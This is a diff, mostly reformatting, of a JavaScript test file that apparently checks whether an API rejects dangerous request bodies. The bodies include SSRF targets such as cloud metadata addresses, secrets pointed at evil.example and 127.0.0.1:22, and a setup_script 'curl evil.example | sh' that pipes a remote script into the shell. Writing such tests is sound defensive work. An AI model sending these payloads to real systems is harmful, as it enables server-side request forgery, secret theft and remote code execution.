@@ -2,7 +2,9 @@
 
 import { JSON_TYPE, OURS } from "../rig.js";
 
-const issuer = (/** @type {unknown} */ url) => ({ secrets: { x: { issuer: { url, headers: { a: "b" }, refresh: "1h" } } } });
+const issuer = (/** @type {unknown} */ url) => ({
+  secrets: { x: { issuer: { url, headers: { a: "b" }, refresh: "1h" } } },
+});
 const DESTINATIONS = [
   "http://169.254.169.254/latest/meta-data/",
   "http://[fd00:ec2::254]/",
@@ -28,13 +30,24 @@ const DESTINATIONS = [
 
 /** @type {[who: string, path: string, body: string][]} */
 const BODIES = [
-  ...DESTINATIONS.map((url) => /** @type {[string, string, string]} */ (["admins", "/hosts", JSON.stringify(issuer(url))])),
   ...DESTINATIONS.map(
-    (target) => /** @type {[string, string, string]} */ (["admins", "/http-proxies", JSON.stringify({ name: "x", target, headers: { a: "b" } })]),
+    (url) => /** @type {[string, string, string]} */ (["admins", "/hosts", JSON.stringify(issuer(url))]),
+  ),
+  ...DESTINATIONS.map(
+    (target) =>
+      /** @type {[string, string, string]} */ ([
+        "admins",
+        "/http-proxies",
+        JSON.stringify({ name: "x", target, headers: { a: "b" } }),
+      ]),
   ),
   ["admins", "/hosts", '{"secrets":{"x":{"value":"12345678","host":"evil.example"}}}'],
   ["admins", "/hosts", '{"secrets":{"x":{"value":"12345678","host":"127.0.0.1:22"}}}'],
-  ["operators", "/hosts", '{"secrets":{"x":{"issuer":{"url":"https://api.example.net","headers":{"a":"b"},"refresh":"1h"}}}}'],
+  [
+    "operators",
+    "/hosts",
+    '{"secrets":{"x":{"issuer":{"url":"https://api.example.net","headers":{"a":"b"},"refresh":"1h"}}}}',
+  ],
   ["operators", "/hosts", '{"expires_at":null}'],
   ["operators", "/templates", '{"setup_script":"curl evil.example | sh"}'],
   ["operators", "/http-proxies", '{"name":"x","target":"https://api.example.net","headers":{"a":"b"}}'],
@@ -85,7 +98,11 @@ export const fields = BODIES.map(([who, path, body]) => ({
   async run(target) {
     // Somebody new each time, so that no limit does the refusing.
     const signedIn = await target.signedIn(`${crypto.randomUUID()}@example.net`, who);
-    const got = await target.send(`/api${path}`, { method: "POST", headers: { ...OURS, ...JSON_TYPE, ...signedIn }, body });
+    const got = await target.send(`/api${path}`, {
+      method: "POST",
+      headers: { ...OURS, ...JSON_TYPE, ...signedIn },
+      body,
+    });
     return got.status < 400 || got.status === 429 ? `responded ${got.status}` : undefined;
   },
 }));
